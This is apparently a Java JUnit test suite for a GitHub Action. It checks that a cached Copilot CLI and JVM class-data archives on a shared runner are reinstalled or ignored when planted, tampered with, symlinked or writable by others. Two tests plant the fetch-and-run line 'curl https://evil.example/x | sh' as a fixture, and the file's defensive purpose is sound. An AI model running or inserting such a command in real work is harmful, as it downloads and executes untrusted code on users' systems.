package dev.copilotci.runner.github;

import static dev.copilotci.runner.github.ActionScripts.SCRIPT_TIMEOUT;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.nio.file.attribute.UserPrincipal;
import java.util.Arrays;
import java.util.HashMap;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/**
 * The attacker shares the machine (a self-hosted runner reused by other jobs, other users, a world-writable
 * /tmp): they plant or change the cached Copilot CLI, or a class-data archive the JVM would map as trusted classes.
 * Runs the action's scripts as the composite action does, with fake npm and java from {@link FakeCommands}.
 */
@Timeout(120)
class ActionSupplyChainAttackTest {

    private static final String VERSION = "1.0.102";

    @TempDir
    Path tmp;

    private ActionScripts scripts;
    private Path toolCache;
    private Path npmCalls;
    private Path fakeBin;

    @BeforeEach
    void setUp() throws Exception {
        scripts = ActionScripts.in(tmp);
        toolCache = Files.createDirectories(tmp.resolve("tool-cache"));
        fakeBin = Files.createDirectories(tmp.resolve("fake-bin"));
        npmCalls = tmp.resolve("npm-calls");
        FakeCommands.npm(fakeBin.resolve("npm"), npmCalls);
    }

    /** Runs a script with a fresh GITHUB_OUTPUT, the tool cache, and the fake npm first on PATH. */
    private ProcessRun script(String name, Map<String, String> env) throws Exception {
        Files.writeString(scripts.outputFile(), "");
        Map<String, String> all = new HashMap<>();
        all.put("RUNNER_TOOL_CACHE", toolCache.toString());
        all.put("PATH", fakeBin + ":" + System.getenv("PATH"));
        all.putAll(env);
        return scripts.run(name, all, tmp);
    }

    private ProcessRun installCli() throws Exception {
        return script("install-cli.sh", Map.of("CCI_CLI_VERSION", VERSION));
    }

    private int npmCallCount() throws Exception {
        return Files.exists(npmCalls) ? Files.readAllLines(npmCalls).size() : 0;
    }

    private Path versionDir() {
        return toolCache.resolve("copilot-ci/copilot-cli/" + VERSION);
    }

    private Path cli() {
        return versionDir().resolve("node_modules/.bin/copilot");
    }

    private String cliPath() throws Exception {
        return scripts.outputs().get("cli-path");
    }

    private static List<String> warnings(ProcessRun run) {
        return RunnerSimulator.commands(run.stdout()).stream().filter(c -> c.name().equals("warning"))
                .map(RunnerSimulator.Command::data).toList();
    }

    // --- the CLI ---

    @Test
    void npmCiRunsWithTheShippedLockfileAndWithoutInstallScripts() throws Exception {
        ProcessRun run = installCli();
        assertEquals(0, run.exitCode(), run.stdout() + run.stderr());
        List<String> calls = Files.readAllLines(npmCalls);
        assertEquals(1, calls.size());
        List<String> args = Arrays.asList(calls.get(0).split(" "));
        assertEquals("ci", args.get(0), "npm ci installs exactly the lockfile, never resolves versions");
        assertTrue(args.contains("--ignore-scripts"), calls.get(0));
        assertFalse(args.contains("install") || args.stream().anyMatch(a -> a.startsWith("@github/copilot")),
                calls.get(0));
        assertEquals(Files.readString(scripts.actionDir().resolve("cli/package-lock.json")),
                Files.readString(Path.of(npmCalls + ".lock")));
        assertEquals(cli().toString(), cliPath());
        assertTrue(Files.isRegularFile(versionDir().resolve("copilot-ci.manifest")), "manifest recorded");
        assertEquals(PosixFilePermissions.fromString("rwx------"), Files.getPosixFilePermissions(versionDir()));

        assertEquals(0, installCli().exitCode());
        assertEquals(1, npmCallCount(), "an unchanged cached CLI is used as it is");
        assertEquals(cli().toString(), cliPath());
    }

    @Test
    void aPlantedEmptyVersionDirectoryIsReplacedByARealInstall() throws Exception {
        Files.createDirectories(versionDir(),
                PosixFilePermissions.asFileAttribute(PosixFilePermissions.fromString("rwx------")));
        ProcessRun run = installCli();
        assertEquals(0, run.exitCode(), run.stdout() + run.stderr());
        assertEquals(1, npmCallCount(), "installed, not trusted because the directory exists");
        assertTrue(warnings(run).get(0).contains("does not match what was installed"), run.stdout());
        assertTrue(Files.isExecutable(cli()));
    }

    @Test
    void aPlantedCliWithoutManifestIsReplaced() throws Exception {
        Files.createDirectories(cli().getParent());
        FakeCommands.script(cli(), "#!/bin/sh\ncurl https://evil.example/x | sh\n");
        ProcessRun run = installCli();
        assertEquals(0, run.exitCode(), run.stdout() + run.stderr());
        assertEquals(1, npmCallCount());
        assertFalse(Files.readString(cli()).contains("evil"), "the planted command is gone");
    }

    @Test
    void aTamperedBinaryIsReinstalled() throws Exception {
        assertEquals(0, installCli().exitCode());
        Files.writeString(cli(), "curl https://evil.example/x | sh\n", StandardCharsets.UTF_8,
                java.nio.file.StandardOpenOption.APPEND);
        ProcessRun run = installCli();
        assertEquals(0, run.exitCode(), run.stdout() + run.stderr());
        assertEquals(2, npmCallCount(), "changed file: installed again");
        assertEquals(1, warnings(run).size(), run.stdout());
        assertFalse(Files.readString(cli()).contains("evil"));

        // A swapped symlink counts as a change too (the copilot command is a link to npm-loader.js in real npm).
        Files.delete(cli());
        Files.createSymbolicLink(cli(), tmp.resolve("somewhere-else"));
        assertEquals(0, installCli().exitCode());
        assertEquals(3, npmCallCount());
    }

    @Test
    void aCachedCliOthersMayWriteIsReinstalled() throws Exception {
        assertEquals(0, installCli().exitCode());
        Files.setPosixFilePermissions(versionDir(), PosixFilePermissions.fromString("rwxrwxrwx"));
        assertEquals(0, installCli().exitCode());
        assertEquals(2, npmCallCount());
        assertEquals(PosixFilePermissions.fromString("rwx------"), Files.getPosixFilePermissions(versionDir()));
    }

    @Test
    void aSharedCacheDirectoryIsNotUsed() throws Exception {
        Path shared = Files.createDirectories(toolCache.resolve("copilot-ci/copilot-cli"));
        Files.setPosixFilePermissions(shared, PosixFilePermissions.fromString("rwxrwxrwx"));
        // chmod 700 would fix a directory of ours: make it someone else's when we can (root), else a symlink.
        Path cacheRoot = toolCache.resolve("copilot-ci/copilot-cli");
        if (isRoot()) {
            Files.setOwner(shared, nobody());
        } else {
            Path elsewhere = Files.createDirectories(tmp.resolve("elsewhere"));
            Files.delete(shared);
            Files.createSymbolicLink(cacheRoot, elsewhere);
        }
        ProcessRun run = installCli();
        assertEquals(0, run.exitCode(), run.stdout() + run.stderr());
        assertTrue(warnings(run).get(0).contains("is not a directory only this user may use"), run.stdout());
        assertTrue(Path.of(cliPath()).startsWith(scripts.runnerTemp()), cliPath());
        assertFalse(Files.exists(cacheRoot.resolve(VERSION)), "nothing installed where others can swap it");
    }

    @Test
    void onlyThePinnedVersionIsInstalled() throws Exception {
        ProcessRun run = script("install-cli.sh", Map.of("CCI_CLI_VERSION", "1.0.103"));
        assertEquals(1, run.exitCode());
        assertTrue(run.stdout().contains("installs only the Copilot CLI its lockfile pins (@github/copilot 1.0.102)"),
                run.stdout());
        assertEquals(0, npmCallCount());
    }

    @Test
    void theShippedLockfilePinsTheSameCliAsTheBuild() throws Exception {
        ObjectMapper json = new ObjectMapper();
        Path build = scripts.actionDir().getParent().resolve("tools/copilot-cli");
        Path action = scripts.actionDir().resolve("cli");
        JsonNode buildLock = json.readTree(build.resolve("package-lock.json").toFile());
        JsonNode actionLock = json.readTree(action.resolve("package-lock.json").toFile());
        assertEquals(VERSION, json.readTree(action.resolve("package.json").toFile())
                .path("dependencies").path("@github/copilot").asText());
        assertEquals(json.readTree(build.resolve("package.json").toFile()).path("dependencies"),
                json.readTree(action.resolve("package.json").toFile()).path("dependencies"));
        // Same packages, versions and integrity hashes (only the project's own name differs).
        JsonNode buildPackages = buildLock.path("packages").deepCopy();
        JsonNode actionPackages = actionLock.path("packages").deepCopy();
        ((com.fasterxml.jackson.databind.node.ObjectNode) buildPackages).remove("");
        ((com.fasterxml.jackson.databind.node.ObjectNode) actionPackages).remove("");
        assertEquals(buildPackages, actionPackages);
        assertEquals(VERSION, actionPackages.path("node_modules/@github/copilot").path("version").asText());
        assertTrue(actionPackages.path("node_modules/@github/copilot").path("integrity").asText()
                .startsWith("sha512-"));
    }

    // --- class-data archives ---

    private Path classArchive() {
        return toolCache.resolve("copilot-ci/class-data/copilot-runner-123.jsa");
    }

    private Map<String, String> runEnv() throws Exception {
        Path java = tmp.resolve("fake-java");
        FakeCommands.script(java, """
                #!/usr/bin/env bash
                printf '%s\\n' "$@" > "$FAKE_DIR/args"
                for a in "$@"; do
                  case $a in -XX:ArchiveClassesAtExit=*) printf 'classes' > "${a#*=}" ;; esac
                done
                """);
        Path work = Files.createDirectories(scripts.runnerTemp().resolve("copilot-ci.cds"));
        Map<String, String> env = FakeCommands.runScriptEnv(tmp, java, work);
        env.put("CCI_PROMPT", "hi");
        env.put("CCI_TIMEOUT", "300");
        env.put("CCI_PERMISSIONS", "deny");
        env.put("CCI_POST", "none");
        env.put("CCI_CLASS_ARCHIVE", classArchive().toString());
        return env;
    }

    private List<String> jvmArchiveOptions() throws Exception {
        return Files.readAllLines(tmp.resolve("args")).stream().filter(a -> a.contains("Archive")).toList();
    }

    private Path plantArchive(String perms) throws Exception {
        Path dir = Files.createDirectories(classArchive().getParent());
        Files.setPosixFilePermissions(dir, PosixFilePermissions.fromString(perms));
        Files.writeString(classArchive(), "attacker classes");
        return dir;
    }

    @Test
    void theArchiveDirectoryIsCreatedPrivateAndItsArchiveIsMapped() throws Exception {
        assertEquals(0, script("run.sh", runEnv()).exitCode());
        assertEquals(PosixFilePermissions.fromString("rwx------"),
                Files.getPosixFilePermissions(classArchive().getParent()));
        assertEquals(0, script("run.sh", runEnv()).exitCode());
        assertEquals(List.of("-XX:SharedArchiveFile=" + classArchive()), jvmArchiveOptions());
    }

    @Test
    void aWorldWritableArchiveDirectoryIsNeitherMappedNorWritten() throws Exception {
        plantArchive("rwxrwxrwx");
        ProcessRun run = script("run.sh", runEnv());
        assertEquals(0, run.exitCode(), run.stdout() + run.stderr());
        assertEquals(List.of(), jvmArchiveOptions());
        assertTrue(run.stdout().contains("is not private to this user"), run.stdout());
        assertEquals("attacker classes", Files.readString(classArchive()));
    }

    @Test
    void anArchiveDirectoryOfAnotherUserIsNotUsed() throws Exception {
        assumeTrue(isRoot(), "only root can hand a directory to another user");
        Path dir = plantArchive("rwx------");
        Files.setOwner(dir, nobody());
        ProcessRun run = script("run.sh", runEnv());
        assertEquals(0, run.exitCode(), run.stdout() + run.stderr());
        assertEquals(List.of(), jvmArchiveOptions());
    }

    @Test
    void symlinkedArchiveDirectoriesAndArchivesAreNotUsed() throws Exception {
        Path elsewhere = Files.createDirectories(tmp.resolve("elsewhere"),
                PosixFilePermissions.asFileAttribute(PosixFilePermissions.fromString("rwx------")));
        Files.writeString(elsewhere.resolve(classArchive().getFileName().toString()), "attacker classes");
        Files.createDirectories(classArchive().getParent().getParent());
        Files.createSymbolicLink(classArchive().getParent(), elsewhere);
        assertEquals(0, script("run.sh", runEnv()).exitCode());
        assertEquals(List.of(), jvmArchiveOptions(), "directory is a symlink");

        Files.delete(classArchive().getParent());
        Files.createDirectories(classArchive().getParent(),
                PosixFilePermissions.asFileAttribute(PosixFilePermissions.fromString("rwx------")));
        Files.createSymbolicLink(classArchive(), elsewhere.resolve(classArchive().getFileName().toString()));
        ProcessRun run = script("run.sh", runEnv());
        assertEquals(0, run.exitCode());
        assertEquals(List.of(), jvmArchiveOptions(), "archive is a symlink");
        assertTrue(run.stdout().contains("is not a file only this user may change"), run.stdout());

        Files.delete(classArchive());
        Files.writeString(classArchive(), "classes");
        Files.setPosixFilePermissions(classArchive(), PosixFilePermissions.fromString("rw-rw-rw-"));
        assertEquals(0, script("run.sh", runEnv()).exitCode());
        assertEquals(List.of(), jvmArchiveOptions(), "archive others may write");
    }

    private static boolean isRoot() throws Exception {
        ProcessRun id = ProcessRun.run(List.of("id", "-u"), Path.of("."), Map.of(), true, SCRIPT_TIMEOUT);
        return id.stdout().strip().equals("0");
    }

    private UserPrincipal nobody() throws Exception {
        return tmp.getFileSystem().getUserPrincipalLookupService().lookupPrincipalByName("nobody");
    }
}
